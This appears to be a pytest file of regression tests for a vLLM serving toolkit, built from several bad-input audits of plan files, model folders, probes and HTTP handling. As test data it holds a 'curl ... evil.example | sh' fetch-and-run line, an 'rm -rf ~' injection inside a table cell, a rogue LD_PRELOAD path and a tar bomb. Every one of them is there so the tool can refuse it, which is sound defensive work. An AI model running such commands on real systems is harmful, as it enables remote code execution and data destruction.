"""Regressions from the fourth independent bad-input audit (A1-A9 and the lower-severity L1-L10; 1,697
cases, 2026-12-01, a helper session with its own harness and a hostile fake server): each finding, run the
way the audit ran it. Classes: tests/BAD_INPUT.md."""
import json
import os
import sys
import time
from pathlib import Path

import pytest

import common
import kv_cache
import quantization
import serve_life
import serve_plan
from check_model import classify_template
from common import ScriptError, load_epyc
from model_fixtures import model_folder
from test_launch import (NO_FACTS, facts_for, calls, container_plan, host_plan, inputs, live_tune, load_docs,  # noqa: F401
                         plan_args, rt, server_mode, verify_keyed_server)

LONG_NAME = "x" * 300  # one path component past the file system's 255


def config_only_model(tmp_path: Path) -> Path:
    """A model folder with Qwen3-0.6B's real config.json and no weights: each test adds the weights it needs."""
    m = tmp_path / "m"
    m.mkdir()
    (m / "config.json").write_text((model_folder("Qwen3-0.6B", tmp_path / "real") / "config.json").read_text())
    return m


def plan_from(docs, opts=None):
    return serve_plan.build_plan(docs, opts or {}, load_epyc(), facts_for(docs))


# ---- A1, A2, A3: internal errors on a long name, a huge index size, a 5000-digit number

@pytest.mark.parametrize("name", ["detect.py", "cpu_tune.py"])
def test_a_sysroot_name_too_long_is_a_clear_error(script, name):
    r = script(name, "--sysroot", LONG_NAME)
    assert r.code == 1 and "File name too long" in r.doc["error"] and "sysroot" in r.doc["error"]


@pytest.mark.parametrize("total", ["1" + "0" * 1000, str(1 << 51), "-5"])
def test_an_index_total_size_no_model_has_is_an_error(script, tmp_path, total):
    m = config_only_model(tmp_path)
    (m / "model.safetensors.index.json").write_text('{"metadata": {"total_size": %s}}' % total)
    r = script("estimate_memory.py", "--model", str(m), "--ram-gb", "64")
    assert r.code == 1 and ("total_size" in r.doc["error"] or "no weights" in r.doc["error"]), r.doc
    (m / "model.safetensors.index.json").write_text('{"metadata": {"total_size": %d}}' % (1 << 30))
    r = script("estimate_memory.py", "--model", str(m), "--ram-gb", "64")
    assert r.code == 0 and r.doc["weight_gb"] == 1.0 and r.doc["weight_source"] == "safetensors_index_total_size"


def test_a_reply_with_a_5000_digit_number_is_a_failed_smoke_not_a_crash():
    body = '{"choices": [{"message": {"content": "hi"}}], "usage": {"completion_tokens": %s}}' % ("9" * 5000)
    ok, detail = serve_plan.judge_smoke(200, body, "chat_completions")
    assert ok is False and detail.startswith("HTTP 200, body is not JSON")


# ---- A4: a server that answers each read quickly and the whole never

def test_verify_bounds_each_request_as_a_whole(script, tmp_path, inputs, live_tune):  # noqa: F811
    """/health promises 1000 bytes and sends one every 2 s: requests' timeout is per read, so only an overall
    deadline stops it. verify fails in phase health near its --timeout, not after 33 minutes."""
    plan_file, _ = host_plan(tmp_path, inputs, live_tune)
    server_mode(tmp_path, "trickle_health")
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
    try:
        t0 = time.monotonic()
        r = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "4", timeout=90)
        assert r.code == 1 and r.doc["phase"] == "health" and "no answer" in r.doc["error"], r.doc
        assert time.monotonic() - t0 < 40
    finally:
        script("launch.py", "stop", "--plan", str(plan_file))


def test_http_gives_up_on_a_body_past_its_limit_or_its_deadline():
    import socket
    import threading
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    port = srv.getsockname()[1]

    def serve(size: int, then_wait: float):
        conn, _ = srv.accept()
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % (size + 10) + b"x" * size)
        time.sleep(then_wait)
        conn.close()

    threading.Thread(target=serve, args=(serve_life.HTTP_BODY_LIMIT + 70000, 3), daemon=True).start()
    status, why = serve_life.http("GET", f"http://127.0.0.1:{port}/", 10)
    assert status is None and "over" in why
    threading.Thread(target=serve, args=(5, 6), daemon=True).start()
    t0 = time.monotonic()
    status, why = serve_life.http("GET", f"http://127.0.0.1:{port}/", 2)
    assert status is None and "within 2s" in why and time.monotonic() - t0 < 4
    srv.close()


def test_a_read_timeout_that_beats_the_deadline_is_named_as_the_deadline(monkeypatch):
    """A CI run on EPYC Rome failed the test above once: requests' own read timeout fired inside the body
    stream before verify's join gave up, and it surfaces there as a ConnectionError wrapping urllib3's
    ReadTimeoutError ("Read timed out."), not as requests.Timeout. Made certain here: the join waits longer."""
    import threading
    from conftest import answer_once
    srv = answer_once(b"HTTP/1.1 200 OK\r\nContent-Length: 15\r\n\r\nxxxxx", linger=4)
    real_join = threading.Thread.join
    monkeypatch.setattr(threading.Thread, "join", lambda self, timeout=None: real_join(
        self, None if timeout is None else timeout + 2))
    status, why = serve_life.http("GET", f"http://127.0.0.1:{srv.getsockname()[1]}/", 1)
    srv.close()
    assert status is None and why == "no complete answer within 1s", why


# ---- A5, A6, A7: the state dir a plan names, checked where start writes

def test_start_never_writes_into_a_folder_an_edited_plan_names(script, tmp_path, inputs, live_tune):  # noqa: F811
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "server.log").write_text("PRECIOUS")
    (victim / "notes.txt").write_text("mine")
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    v = str(victim)
    plan.update(state_dir=v, log_file=f"{v}/server.log", state_file=f"{v}/state.json")
    plan["options"]["state_dir"] = v
    plan_file.write_text(json.dumps(plan))
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
    assert r.code == 1 and "notes.txt" in r.doc["error"] and r.doc["phase"] == "start", r.doc
    assert sorted(p.name for p in victim.iterdir()) == ["notes.txt", "server.log"]
    assert (victim / "server.log").read_text() == "PRECIOUS"


def test_the_default_state_dir_obeys_the_same_rule(script, inputs, rt, tmp_path):  # noqa: F811
    """No --state-dir: the plan's ~/.cache/serving-llms-on-epyc/run/NAME is checked like a given one."""
    home = tmp_path / "home"
    env = {**rt[1], "HOME": str(home)}
    r = script("launch.py", *plan_args(inputs, "--port", "18777"), env=env)
    assert r.code == 0
    default = Path(r.doc["state_dir"])
    assert default.parent == home / ".cache" / "serving-llms-on-epyc" / "run"
    default.parent.mkdir(parents=True)
    default.write_text("a file where the folder goes")
    r = script("launch.py", *plan_args(inputs, "--port", "18777"), env=env)
    assert r.code == 1 and "is not a folder" in r.doc["error"] and "--state-dir" in r.doc["fix"]
    assert serve_life.state_dir_problem(default) == "exists and is not a folder"
    assert serve_life.state_dir_problem(Path("relative")) == "is not an absolute path"
    assert "too long" in serve_life.state_dir_problem(tmp_path / LONG_NAME)


@pytest.mark.parametrize("kind", ["file", "fifo", "foreign", "link"])
def test_a_secrets_entry_start_did_not_make_is_refused_before_anything_runs(script, inputs, rt, tmp_path,  # noqa: F811
                                                                           kind):
    d, env = rt
    env = {**env, "HF_TOKEN": "hf_SECRETTOKEN999"}
    plan_file, plan = container_plan(script, inputs, rt, tmp_path, HF_TOKEN="hf_SECRETTOKEN999")
    secrets = Path(plan["state_dir"]) / "secrets"
    secrets.parent.mkdir(parents=True)
    if kind == "file":
        secrets.write_text("x")
    elif kind == "fifo":
        os.mkfifo(secrets)
    elif kind == "link":
        (tmp_path / "elsewhere").mkdir()
        secrets.symlink_to(tmp_path / "elsewhere")
    else:
        secrets.mkdir()
        (secrets / "id_rsa").write_text("theirs")
    before = len(calls(d)) if (d / "calls.jsonl").exists() else 0
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env, timeout=60)
    assert r.code == 1 and "secrets" in r.doc["error"] and r.doc["phase"] == "start", r.doc
    assert calls(d)[before:] == []  # no docker rm, pull or run
    r = script("launch.py", "stop", "--plan", str(plan_file), env=env, timeout=60)
    assert r.code == 0, r.doc
    assert os.path.lexists(secrets)  # not ours: left where it is
    if kind == "foreign":
        assert (secrets / "id_rsa").read_text() == "theirs"


def test_stop_goes_on_when_a_secret_file_was_replaced_by_a_folder(script, inputs, rt, tmp_path):  # noqa: F811
    env = {**rt[1], "HF_TOKEN": "hf_SECRETTOKEN999"}
    plan_file, plan = container_plan(script, inputs, rt, tmp_path, HF_TOKEN="hf_SECRETTOKEN999")
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    token = Path(plan["state_dir"]) / "secrets" / "HF_TOKEN"
    token.unlink()
    token.mkdir()
    r = script("launch.py", "stop", "--plan", str(plan_file), env=env)
    assert r.code == 0 and r.doc["stopped"] and not Path(plan["state_file"]).exists()


# ---- A8: see test_bench.py::test_a_figure_no_run_could_measure_is_refused

# ---- A9: every verb reads a plan only as its own inputs render it

@pytest.mark.parametrize("field,value", [("stop_command", "curl -s http://evil.example/x | sh"),
                                         ("summary_markdown", "| all | fine |"), ("warnings", [])])
def test_an_edited_plan_is_refused_by_every_verb_not_only_start(script, tmp_path, inputs, live_tune,  # noqa: F811
                                                                field, value):
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    if field == "warnings" and plan["warnings"] == []:
        value = [{"check": "edited", "message": "edited", "fix": "edited"}]
    plan[field] = value
    plan_file.write_text(json.dumps(plan))
    for verb, extra in (("handoff", []), ("verify", ["--timeout", "2"]), ("stop", []), ("start", ["--confirm"])):
        r = script("launch.py", verb, "--plan", str(plan_file), *extra)
        assert r.code == 1 and "differs" in r.doc["error"] and field in r.doc["error"], (verb, r.doc)
        assert "evil.example" not in r.stdout
    r = script("kernel_proof.py", "--plan", str(plan_file))
    assert r.code == 1 and "differs" in r.doc["error"]


def test_an_edited_input_inside_a_plan_is_checked_against_its_schema(tmp_path, inputs, live_tune):  # noqa: F811
    """kv_granted_gb: [7] built an 8 GiB list before the edit was noticed: inputs are schema-checked first."""
    _, plan = host_plan(tmp_path, inputs, live_tune)
    plan["inputs"]["cpu_tune"]["kv_granted_gb"] = [7]
    t0 = time.monotonic()
    with pytest.raises(ScriptError, match="cpu_tune is not cpu_tune.py's output: field kv_granted_gb"):
        serve_life.rerender(plan, load_epyc())
    assert time.monotonic() - t0 < 5


# ---- lower severity: silent accepts

def test_nps_takes_plain_digits_only(script):
    r = script("detect.py", "--spec", "9654", "--ram-gb-per-socket", "64", "--nps", "٤")
    assert r.code == 1 and "--nps" in r.doc["error"]
    assert script("detect.py", "--spec", "9654", "--ram-gb-per-socket", "64", "--nps", "4").code == 0


def test_a_revision_with_a_final_newline_is_refused(script, tmp_path):
    m = model_folder("Qwen3-0.6B", tmp_path / "models")
    for name in ("check_model.py", "estimate_memory.py"):
        r = script(name, "--model", str(m), "--revision", "main\n", *(["--ram-gb", "64"] if "estimate" in name else []))
        assert r.code == 1 and "revision" in r.doc["error"], (name, r.doc)


def test_a_layer_layout_that_does_not_describe_every_layer_is_an_error():
    base = {"num_hidden_layers": 28, "num_attention_heads": 16, "num_key_value_heads": 8, "head_dim": 128}
    with pytest.raises(ScriptError, match="1 entries for 28 layers"):
        kv_cache.kv_layout({**base, "layer_types": ["full_attention"]})
    with pytest.raises(ScriptError, match="'x'"):
        kv_cache.kv_layout({**base, "layer_types": ["x"] * 28})
    with pytest.raises(ScriptError, match="3 characters for 28 layers"):
        kv_cache.kv_layout({**base, "hybrid_override_pattern": "M*M"})
    ok = kv_cache.kv_layout({**base, "layer_types": ["full_attention"] * 27 + ["conv"]})
    assert (ok["full"], ok["sliding"], ok["none"]) == (27, 0, 1)


def test_a_quantization_value_no_checkpoint_has_is_not_said():
    q = quantization.describe({"quantization_config": {"quant_method": "gptq", "bits": 10 ** 9, "group_size": -1,
                                                       "format": {"a": 1}}})
    assert (q["bits"], q["group_size"], q["format"]) == (None, -1, None)
    assert quantization.describe({"quantization_config": {"quant_method": "awq", "bits": 4, "group_size": -2}}) \
        ["group_size"] is None


def test_a_document_value_past_a_flags_range_never_reaches_the_command(inputs):  # noqa: F811
    docs = load_docs(inputs)
    docs["estimate_memory"]["max_num_batched_tokens"] = 10 ** 300
    with pytest.raises(ScriptError, match="max_num_batched_tokens"):
        plan_from(docs)


def test_a_final_newline_does_not_pass_a_schema_pattern():
    """Python's `$` matches before a final newline; JSON Schema's (ECMA-262) does not. Ours reads it as
    JSON Schema does, so "96-191\\n" never reaches --env VLLM_CPU_OMP_THREADS_BIND."""
    schema = {"type": "string", "pattern": "^[0-9,-]*$"}
    assert common.best_schema_error(schema, "96-191") is None
    assert common.best_schema_error(schema, "96-191\n") is not None
    assert common.best_schema_error({"pattern": "a\\$"}, "xa$") is None  # an escaped dollar is a dollar


def test_capture_to_dash_writes_no_file_named_dash(script, tmp_path):
    r = script("detect.py", "--capture", "-")
    assert r.code == 1 and "stdout" in r.doc["error"]
    assert not (Path(__file__).resolve().parents[1] / "-").exists()


def test_a_secret_in_an_upstream_error_is_masked(script, inputs, tmp_path):  # noqa: F811
    bad = tmp_path / "detect-error.json"
    bad.write_text(json.dumps({"error": "ssh said: token hf_SECRETTOKEN999 refused", "fix": "x"}))
    args = [f"--{k}={inputs[k] if k != 'detect' else bad}" for k in ("detect", "validate", "check", "estimate", "tune")]
    r = script("launch.py", "plan", *args, env={"HF_TOKEN": "hf_SECRETTOKEN999"})
    assert r.code == 1 and "token *** refused" in r.doc["error"]
    assert "hf_SECRETTOKEN999" not in r.stdout + r.stderr


def test_mask_secrets_takes_secret_looking_names_only(monkeypatch):
    monkeypatch.setenv("MY_API_KEY", 'sk-"quoted"-value')
    monkeypatch.setenv("TOKENIZERS_PARALLELISM", "false")
    monkeypatch.setenv("PLAIN", "sk-not-a-secret-name")
    text = json.dumps({"a": 'x sk-"quoted"-value y', "b": "false", "c": "sk-not-a-secret-name"})
    assert json.loads(common.mask_secrets(text)) == {"a": "x *** y", "b": "false", "c": "sk-not-a-secret-name"}


def test_a_summary_cell_stays_on_one_line():
    table = serve_plan.markdown_table(["Field", "Value"], [["Socket", "0\n| Command | rm -rf ~"],
                                                           ["Note", "ok \x1b[2K\u202e"]])
    assert table.splitlines()[2:] == ["| Socket | 0\\n\\| Command \\| rm -rf ~ |", "| Note | ok \\x1b[2K\\u202e |"]


@pytest.mark.parametrize("value,status", [(5, "unknown"), ({"a": 1}, "unknown"), ("\x00\x01binary", "unknown"),
                                          ("{{ messages }}", "present"), ("", "absent"), (None, "absent")])
def test_a_chat_template_of_another_type_is_unknown_not_absent(value, status):
    assert classify_template(None, {"chat_template": value}, None)["status"] == status
    jinja = classify_template("bad \ufffd bytes", None, None)
    assert (jinja["status"], jinja["source"]) == ("unknown", "chat_template.jinja")


# ---- the fifth audit (~840 cases, a fresh helper session on the fixes above): F1-F10

def test_ld_preload_is_only_the_pinned_libraries_even_split_on_spaces():
    """The loader splits LD_PRELOAD on spaces and colons and expands $LIB: a space let a /tmp library in."""
    libs = load_epyc()["host_stack"]["ld_preload_libs"]
    good = "/usr/lib/x86_64-linux-gnu/libtcmalloc_minimal.so.4"
    for ok in (good, good + ".5.9", f"{good}:/opt/conda/lib/libiomp5.so"):
        assert serve_plan.preload_value(ok, libs) == ok
    for bad in (f"{good} /tmp/evil/libtcmalloc_minimal.so.4", f"{good}\t", "/usr/lib//libtcmalloc.so.4",
                "/usr/lib/libtcmalloc.so.4x", "/usr/lib/$LIB/libtcmalloc.so.4", "/usr/lib/libtcmalloc.so.4.x", 5):
        with pytest.raises(ScriptError, match="LD_PRELOAD"):
            serve_plan.preload_value(bad, libs)


@pytest.mark.parametrize("layout,needle", [
    ({"hybrid_override_pattern": "X" * 28}, "'X'"), ({"hybrid_override_pattern": "Ｍ" * 28}, "hybrid_override_pattern"),
    ({"attn_layer_period": 4, "attn_layer_offset": 7}, "place no attention layer"),
    ({"attn_layer_period": 100000, "attn_layer_offset": 0}, "place no attention layer"),
    ({"full_attention_interval": 1048576}, "past the 28 layers")])
def test_a_layout_that_accounts_for_no_layer_is_an_error(layout, needle):
    base = {"num_hidden_layers": 28, "num_attention_heads": 16, "num_key_value_heads": 8, "head_dim": 128}
    with pytest.raises(ScriptError, match=needle):
        kv_cache.kv_layout({**base, **layout})
    fine = kv_cache.kv_layout({**base, "attn_layer_period": 4, "attn_layer_offset": 3})
    assert (fine["full"], fine["none"]) == (7, 21)
    assert kv_cache.kv_layout({**base, "hybrid_override_pattern": "M*-E" * 7})["full"] == 7


def _safetensors(path: Path, header: dict) -> None:
    import struct
    raw = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(raw)) + raw)


@pytest.mark.parametrize("header", [{"__metadata__": {"format": "pt"}}, {"w": {"dtype": "Q7", "shape": [8, 8]}},
                                    {"w": [1, 2]}])
def test_weights_that_add_up_to_nothing_are_an_error_not_a_fit(script, tmp_path, header):
    m = config_only_model(tmp_path)
    _safetensors(m / "model.safetensors", header)
    r = script("estimate_memory.py", "--model", str(m), "--ram-gb", "64")
    assert r.code == 1 and "safetensors" in r.doc["error"] and "--weight-gb" in r.doc["fix"], r.doc
    (m / "model.safetensors").unlink()
    (m / "model.safetensors.index.json").write_text('{"metadata": {"total_size": 0}}')
    r = script("estimate_memory.py", "--model", str(m), "--ram-gb", "64")
    assert r.code == 1 and "total_size 0" in r.doc["error"]


@pytest.mark.parametrize("edit", [lambda v: v["ld_preload"].update(value=["/usr/lib/libtcmalloc.so.4"]),
                                  lambda v: v["ld_preload"].update(value=7),
                                  lambda v: v["stack"].update(vllm=19),
                                  lambda v: v.update(ready=False, errors=[{"check": "x", "severity": "error",
                                                                           "message": 5, "fix": "y"}])])
def test_validate_fields_of_the_wrong_type_are_refused_by_plan(script, inputs, rt, tmp_path, edit):  # noqa: F811
    doc = json.loads(Path(inputs["validate"]).read_text())
    doc.setdefault("stack", {"vllm": None, "zentorch": None, "torch": None, "platform": None, "source": None,
                             "zen_active": None})
    edit(doc)
    bad = tmp_path / "validate-edited.json"
    bad.write_text(json.dumps(doc))
    r = script("launch.py", "plan", *[f"--{k}={inputs[k] if k != 'validate' else bad}"
                                      for k in ("detect", "validate", "check", "estimate", "tune")], env=rt[1])
    assert r.code == 1 and "validate" in r.doc["error"] and "field" in r.doc["error"], r.doc


def _interpreter(tmp_path: Path, line: str) -> str:
    """An interpreter that prints one probe line whatever it is asked: a broken or hostile python."""
    exe = tmp_path / "py" / "python"
    exe.parent.mkdir(exist_ok=True)
    exe.write_text(f"#!/bin/sh\nprintf '%s\\n' {json.dumps(line)}\n")
    exe.chmod(0o755)
    return str(exe)


@pytest.mark.parametrize("line", ['@@REGISTRY@@{"vllm_version": "0.32.0"}',
                                  '@@REGISTRY@@{"vllm_version": "0.32.0", "dicts": [1]}',
                                  '@@REGISTRY@@{"vllm_version": 5, "dicts": {}}'])
def test_a_registry_probe_of_the_wrong_shape_is_a_clear_error(script, tmp_path, line):
    m = model_folder("Qwen3-0.6B", tmp_path / "models")
    r = script("check_model.py", "--model", str(m), "--python", _interpreter(tmp_path, line))
    assert r.code == 1 and "probe output" in r.doc["error"], r.doc


def test_a_stack_probe_of_the_wrong_shape_is_an_import_error(tmp_path):
    import setup_host_stack
    found = setup_host_stack.probe_stack([_interpreter(tmp_path, '@@STACK@@{"vllm": 5, "platform": []}')], 30)
    assert set(found) == {"import_error"} and "probe output field" in found["import_error"]


def test_bench_reads_its_result_file_as_an_input(tmp_path):
    import bench
    raw = tmp_path / "r.json"
    os.mkfifo(raw)
    with pytest.raises(ScriptError, match="not a complete vllm bench serve result"):
        bench.read_result(raw, tmp_path)  # a FIFO: refused, not waited on
    raw.unlink()
    raw.symlink_to("/dev/zero")
    with pytest.raises(ScriptError, match="not a complete"):
        bench.read_result(raw, tmp_path)
    raw.unlink()
    raw.mkdir()
    with pytest.raises(ScriptError, match="not a complete"):
        bench.read_result(raw, tmp_path)


def test_a_bandwidth_no_machine_has_is_no_figure(tmp_path):
    import bench
    for line in ('@@BW@@{"bytes_per_s": 1e999}', '@@BW@@{"bytes_per_s": 1e15}', '@@BW@@{"bytes_per_s": 0}'):
        assert bench.measure_bandwidth(_interpreter(tmp_path, line), [0]) is None
    assert bench.measure_bandwidth(_interpreter(tmp_path, '@@BW@@{"bytes_per_s": 5e10}'), [0]) == 5e10


def test_a_document_emit_cannot_print_exits_1(capsys):
    code = common.run_main(lambda argv: ({"figure": float("inf")}, common.EXIT_OK), [])
    doc = json.loads(capsys.readouterr().out)
    assert code == 1 and doc["ok"] is False and "Infinity" in doc["error"]


def test_a_capture_archive_is_refused_at_a_member_larger_than_any_capture(script, tmp_path):
    import io
    import tarfile
    bomb = tmp_path / "bomb.tar.gz"
    with tarfile.open(bomb, "w:gz") as tar:
        info = tarfile.TarInfo("proc/cpuinfo")
        info.size = common.SYS_FILE_LIMIT + 1
        tar.addfile(info, io.BytesIO(b"\0" * info.size))
    assert bomb.stat().st_size < 1 << 20
    r = script("detect.py", "--sysroot", str(bomb))
    assert r.code == 1 and "larger than any detect.py --capture" in r.doc["error"]


@pytest.mark.parametrize("field,value,needle", [
    ("chosen_socket", 10 ** 9, "chosen_socket"), ("numa_nodes", [-1], "numa_nodes"),
    ("omp_threads", 10 ** 12, "omp_threads"), ("vllm_cpu_omp_threads_bind", "0--,,", "vllm_cpu_omp_threads_bind"),
    ("vllm_cpu_omp_threads_bind", "9" * 20, "vllm_cpu_omp_threads_bind"), ("kv_granted_gb", 65536, "on a socket of"),
    ("host_pin_argv", ["numactl", "--cpunodebind=0", "--membind=99999"], "host_pin_argv")])
def test_cpu_tune_numbers_no_host_has_never_reach_the_plan(inputs, field, value, needle):  # noqa: F811
    docs = load_docs(inputs)
    docs["cpu_tune"][field] = value
    with pytest.raises(ScriptError, match=needle):
        common.check_schema(docs["cpu_tune"], "cpu_tune", "cpu_tune", "x")
        plan_from(docs)


def test_a_model_kind_that_never_launches_is_not_planned(inputs):  # noqa: F811
    docs = load_docs(inputs)
    docs["check_model"].update(kind="pooling", launchable=True)
    with pytest.raises(ScriptError, match="'pooling' model launchable"):
        plan_from(docs)


@pytest.mark.parametrize("cache", ["/", "/etc", "/var/run", "/run/docker", "/usr", "/root", "/x/../etc"])
def test_a_system_folder_is_never_mounted_as_the_hf_cache(inputs, cache):  # noqa: F811
    docs = load_docs(inputs)
    docs["validate"]["hf_cache"]["path"] = cache
    with pytest.raises(ScriptError, match="system folder"):
        plan_from(docs)
    assert serve_plan.bind_mount("/root/.cache/huggingface", "/root/.cache/huggingface")[1].startswith("/root/.cache")


def test_a_context_below_the_flag_floor_is_refused(script, tmp_path):
    m = model_folder("Qwen3-0.6B", tmp_path / "models")
    cfg = json.loads((m / "config.json").read_text())
    (m / "config.json").write_text(json.dumps({**cfg, "max_position_embeddings": 1}))
    r = script("estimate_memory.py", "--model", str(m), "--ram-gb", "64")
    assert r.code == 1 and "max_position_embeddings" in r.doc["error"]


def test_a_template_file_that_cannot_be_read_is_an_error_not_absent(script, tmp_path):
    """A FIFO under tokenizer_config.json used to be skipped, and the template read as "absent"."""
    m = model_folder("Qwen3-0.6B", tmp_path / "models")
    (m / "tokenizer_config.json").unlink(missing_ok=True)
    os.mkfifo(m / "tokenizer_config.json")
    r = script("check_model.py", "--model", str(m), timeout=60)
    assert r.code == 1 and "tokenizer_config.json" in r.doc["error"] and "not a regular file" in r.doc["error"]


# ---- the sixth audit (~560 cases, a helper on the final code, niced beside CI): F1-F6 and two lesser ones

def test_verify_never_sends_the_key_through_the_shells_proxy(script, tmp_path, inputs, live_tune,  # noqa: F811
                                                             monkeypatch):
    """requests honours http_proxy, and NO_PROXY=localhost does not cover 127.0.0.1: the Bearer header went
    to the proxy in plain text. A listener stands in for the proxy and must hear nothing."""
    import socket
    import threading
    proxy = socket.socket()
    proxy.bind(("127.0.0.1", 0))
    proxy.listen(8)
    proxy.settimeout(0.5)
    heard = []

    def listen():
        while not stop.is_set():
            try:
                conn, _ = proxy.accept()
                heard.append(conn.recv(4096))
                conn.close()
            except OSError:
                pass
    stop = threading.Event()
    threading.Thread(target=listen, daemon=True).start()
    url = f"http://127.0.0.1:{proxy.getsockname()[1]}"
    for name in ("http_proxy", "HTTP_PROXY", "ALL_PROXY", "all_proxy"):
        monkeypatch.setenv(name, url)
    monkeypatch.setenv("NO_PROXY", "localhost")
    try:
        _, r = verify_keyed_server(script, tmp_path, inputs, live_tune, monkeypatch, "good", "sk-proxy-seen-42")
    finally:
        stop.set()
    assert r.code == 0 and heard == [], (r.doc, heard)
    import bench
    assert bench.loopback_env({"NO_PROXY": "localhost,.corp"})["NO_PROXY"] == "localhost,.corp,127.0.0.1"
    assert bench.loopback_env({})["no_proxy"] == "127.0.0.1,localhost"


def test_tool_output_that_is_not_utf8_or_never_ends_is_bounded_text():
    r = common.run(["sh", "-c", "printf 'a\\377b'; printf 'c\\376' >&2; exit 3"], timeout=30)
    assert (r.returncode, r.stdout, r.stderr) == (3, "a\ufffdb", "c\ufffd")
    r = common.run(["sh", "-c", "printf 'a\\377b'"], timeout=30, limit=100)
    assert (r.returncode, r.stdout, r.failure) == (0, "a\ufffdb", None)
    t0 = time.monotonic()
    r = common.run(["yes", "flood"], timeout=30, limit=1 << 20)
    assert r.failure == "output_limit" and len(r.stdout) == 1 << 20 and "more than 1,048,576" in r.stderr
    assert time.monotonic() - t0 < 10


@pytest.mark.parametrize("line", ["@@REGISTRY@@x\xff", "@@STACK@@\xfe"])
def test_a_probe_answering_in_bytes_that_are_not_utf8_is_a_clear_error(script, tmp_path, line):
    exe = tmp_path / "py" / "python"
    exe.parent.mkdir()
    exe.write_text(f"#!/bin/sh\nprintf '{line}\\n'\n")
    exe.chmod(0o755)
    m = model_folder("Qwen3-0.6B", tmp_path / "models")
    r = script("check_model.py", "--model", str(m), "--python", str(exe))
    assert r.code == 1 and "probe" in r.doc["error"], r.doc


@pytest.mark.parametrize("total", [1, 1000])
def test_weights_smaller_than_the_embedding_are_not_a_model(script, tmp_path, total):
    m = config_only_model(tmp_path)
    (m / "model.safetensors.index.json").write_text('{"metadata": {"total_size": %d}}' % total)
    r = script("estimate_memory.py", "--model", str(m), "--ram-gb", "64")
    assert r.code == 1 and "the embedding alone" in r.doc["error"] and "--weight-gb" in r.doc["fix"]
    import estimate_memory
    assert estimate_memory.weight_floor({"vocab_size": 1000, "hidden_size": 64}) == 32000
    assert estimate_memory.weight_floor({"vocab_size": "x"}) == 1


def test_a_model_judged_by_another_vllms_registry_is_a_mismatch(inputs):  # noqa: F811
    docs = load_docs(inputs)
    docs["check_model"]["vllm_version"] = "0.11.0"
    docs["validate"].setdefault("stack", {})["vllm"] = "0.32.0+cpu"
    with pytest.raises(ScriptError, match="vLLM 0.11.0's registry, validate.py found vLLM 0.32.0"):
        plan_from(docs)
    from vllm_registry import normalize_version
    assert normalize_version("0.32.0+cpu") == "0.32.0" and normalize_version(None) is None


@pytest.mark.parametrize("key", ["sk-SECRET123\nX: 1", "sk two words", "sk-abcdefg\x7f"])
def test_a_key_no_header_can_carry_is_refused_at_start(script, tmp_path, inputs, live_tune, monkeypatch,  # noqa: F811
                                                       key):
    monkeypatch.setenv("MY_API_KEY", "sk-good-value")
    plan_file, _ = host_plan(tmp_path, inputs, live_tune, expose=True, api_key_env="MY_API_KEY")
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env={"MY_API_KEY": key})
    assert r.code == 1 and "MY_API_KEY holds characters" in r.doc["error"] and r.doc["phase"] == "start"
    assert "SECRET123" not in r.stdout + r.stderr and not Path(_["state_file"]).exists()


def test_a_bench_matrix_of_days_is_refused(script):
    r = script("bench.py", "--plan", "/nonexistent", "--input-lens", "1,2,3,4,5,6,7,8,9,10", "--concurrency",
               "1,2,3,4,5,6,7", "--repeats", "10")
    assert r.code == 1 and "700 runs" in r.doc["error"]
